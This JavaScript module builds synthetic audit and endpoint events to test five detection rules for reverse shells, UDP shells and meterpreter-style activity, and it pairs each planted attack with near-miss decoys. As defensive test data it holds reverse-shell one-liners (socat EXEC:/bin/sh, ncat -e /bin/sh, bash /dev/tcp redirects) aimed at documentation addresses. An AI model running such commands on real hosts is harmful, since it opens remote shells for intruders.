/**
 * Attacks that the five bundled rules must find, and decoys with one thing wrong that they must not. Each is a list of
 * `[delayMs, line]`: `line(atUs)` gives the event that comes `delayMs` after the one before it.
 */
import { auditEvent, networkEvent, processEvent } from './documents.mjs';
import { USERS } from './world.mjs';

const FAR = ['198.51.100.7', '203.0.113.99', '192.0.2.200', '2001:db8:bad::1'];

const peer = (random, ip) => ({
  ip,
  port: random.between(1024, 9999),
  sourcePort: random.between(32_768, 60_999),
});
const pointer = (random) => `55${random.hex(5)}`;

function started(host, random, parent, executable, args, name) {
  return host.spawn(parent, random.pick(USERS), 0).become(executable, args, name);
}

function meterpreter(host, random, attack) {
  const reader = started(host, random, host.daemons[2], `/tmp/.${random.hex(4)}`, ['./update']);
  const files = [
    '/etc/machine-id',
    '/etc/passwd',
    '/proc/net/route',
    '/proc/net/ipv6_route',
    '/proc/net/if_inet6',
  ];
  const wrong = attack ? -1 : random.below(files.length);
  const flaw = random.pick(['openat', 'mode']);
  return random.shuffled(files).map((path, index) => {
    const call = index === wrong && flaw === 'openat' ? 'openat' : 'open';
    const mode = index === wrong && flaw === 'mode' ? '1a4' : '1b6';
    const details = { a: [pointer(random), '0', mode, '0'], path, exit: '3' };
    return [random.below(3000), (at) => auditEvent(host, at, call, reader, details)];
  });
}

function udp(host, random, attack) {
  const [executable, args, name] = random.pick([
    ['/usr/bin/bash', ['bash', '-c', 'exec 3<>/dev/udp/203.0.113.9/53; id >&3'], 'bash'],
    ['/usr/bin/nc.openbsd', ['nc', '-u', '203.0.113.9', '53'], 'nc'],
    ['/usr/bin/socat', ['socat', 'udp:203.0.113.9:53', 'exec:sh'], 'socat'],
    ['/usr/bin/perl', ['perl', '-MIO::Socket', '-e', '1'], 'Perl'],
  ]);
  const process = started(host, random, host.daemons[9], executable, args, name);
  const flaw = attack ? undefined : random.pick(['type', 'destination', 'parent']);
  const type = flaw === 'type' ? '80002' : random.pick(['2', '802']);
  const address = { ip: flaw === 'destination' ? '127.0.0.53' : random.pick(FAR), port: 53 };
  const ppid = flaw === 'parent' ? 1 : undefined;
  const a = [pointer(random), pointer(random), pointer(random), '8'];
  const events = [
    (at) => auditEvent(host, at, 'execve', process, { a, path: executable }),
    (at) => auditEvent(host, at, 'socket', process, { a: ['2', type, '11', '0'], exit: '3' }),
    (at) => auditEvent(host, at, 'connect', process, { a: ['3', a[0], '10', '0'], address, ppid }),
  ];
  return (random.chance(0.3) ? events.reverse() : events).map((line) => [random.below(9000), line]);
}

function reverseShell(host, random, attack) {
  const flaw = attack
    ? undefined
    : random.pick(['destination', 'late', 'order', 'arguments', 'parent']);
  const [executable, args] = random.pick([
    ['/usr/bin/bash', ['bash', '-c', 'bash -i']],
    ['/usr/bin/zsh', ['zsh']],
    ['/usr/bin/socat', ['socat', 'TCP:203.0.113.9:443', 'EXEC:/bin/sh,pty']],
  ]);
  const shell = started(host, random, host.daemons[2], executable, args);
  const parent = flaw === 'parent' ? host.daemons[9] : shell;
  const option = flaw === 'arguments' ? '-x' : random.pick(['-i', '-l', '-I']);
  const program = flaw === 'arguments' && shell.name === 'socat' ? '/usr/bin/id' : '/usr/bin/dash';
  const child = started(host, random, parent, program, ['sh', option]);
  const ip =
    flaw === 'destination'
      ? random.pick(['127.0.0.1', '169.254.169.254', '224.0.0.251', '::1'])
      : random.pick(FAR);
  const remote = peer(random, ip);
  const action = random.pick(['connection_attempted', 'connection_accepted']);
  const connects = (at) => networkEvent(host, at, action, shell, remote);
  const begins = (at) => processEvent(host, at, random.pick(['exec', 'fork']), child);
  if (flaw === 'order')
    return [
      [0, begins],
      [200, connects],
    ];
  return [
    [0, connects],
    [flaw === 'late' ? 5001 : random.pick([random.below(5000), 5000]), begins],
  ];
}

function suspiciousParent(host, random, attack) {
  const [executable, args] = random.pick([
    ['/usr/bin/python3.11', ['python3', '-c', 'import socket,os,pty;s=socket.socket()']],
    ['/usr/bin/php8.2', ['php', '-r', '$s=fsockopen("203.0.113.9",443);']],
    ['/usr/bin/perl', ['perl', '-e', 'use Socket;$i="203.0.113.9";']],
    ['/usr/bin/ncat', ['ncat', '-e', '/bin/sh', '203.0.113.9', '443']],
  ]);
  const flaw = attack ? undefined : random.pick(['destination', 'late', 'exec']);
  const parent = started(host, random, host.daemons[2], executable, args);
  const child = host.spawn(parent, parent.user, 0);
  const remote = peer(random, flaw === 'destination' ? '127.0.0.1' : random.pick(FAR));
  return [
    [0, (at) => processEvent(host, at, flaw === 'exec' ? 'exec' : 'fork', child)],
    [
      flaw === 'late' ? 1001 : random.pick([random.below(1000), 1000]),
      (at) => networkEvent(host, at, 'connection_attempted', child, remote),
    ],
  ];
}

function background(host, random, attack) {
  const flaw = attack ? undefined : random.pick(['device', 'redirection', 'parent', 'action']);
  const shell = started(
    host,
    random,
    host.daemons[2],
    flaw === 'parent' ? '/usr/bin/python3.11' : '/usr/bin/bash',
    ['bash'],
  );
  const device = flaw === 'device' ? 'udp' : 'tcp';
  const redirection = flaw === 'redirection' ? '2>&1' : '0>&1';
  const name = random.pick(['nohup', 'setsid']);
  const code = `bash -i >& /dev/${device}/${random.pick(FAR.slice(0, 3))}/${random.between(1024, 9999)} ${redirection}`;
  const child = started(host, random, shell, `/usr/bin/${name}`, [name, 'bash', '-c', code]);
  return [[0, (at) => processEvent(host, at, flaw === 'action' ? 'fork' : 'exec', child)]];
}

/** The rules in the order in which they are planted: id, the kind of host they need, and what plants them. */
export const PLANTS = [
  { ruleId: '5c895b4f-9133-4e68-9e23-59902175355c', kind: 'auditd', plant: meterpreter },
  { ruleId: '48b3d2e3-f4e8-41e6-95e6-9b2091228db3', kind: 'defend', plant: reverseShell },
  { ruleId: 'a5eb21b7-13cc-4b94-9fe2-29bb2914e037', kind: 'auditd', plant: udp },
  { ruleId: '4b1a807a-4e7b-414e-8cea-24bf580f6fc5', kind: 'defend', plant: suspiciousParent },
  { ruleId: '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39', kind: 'defend', plant: background },
];
